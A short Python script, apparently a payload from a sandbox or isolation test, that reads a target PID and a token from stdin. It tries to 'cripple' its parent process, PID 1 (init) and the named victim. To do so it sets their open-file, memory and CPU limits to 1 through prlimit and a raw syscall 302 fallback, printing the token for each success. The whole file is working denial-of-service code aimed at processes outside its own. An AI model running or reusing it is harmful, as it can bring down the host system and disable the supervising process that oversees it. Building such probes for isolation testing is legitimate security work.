# Cripple the parent through its limits: no files, no memory.
import ctypes, json, os, resource, sys

host = json.load(sys.stdin)
for pid in (os.getppid(), 1, host["victim"]):
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU):
        try:
            resource.prlimit(pid, kind, (1, 1))
            print(host["token"], "limited", pid)
        except (OSError, ValueError):
            pass
        ctypes.CDLL(None).syscall(302, pid, kind, (ctypes.c_uint64 * 2)(1, 1), None)
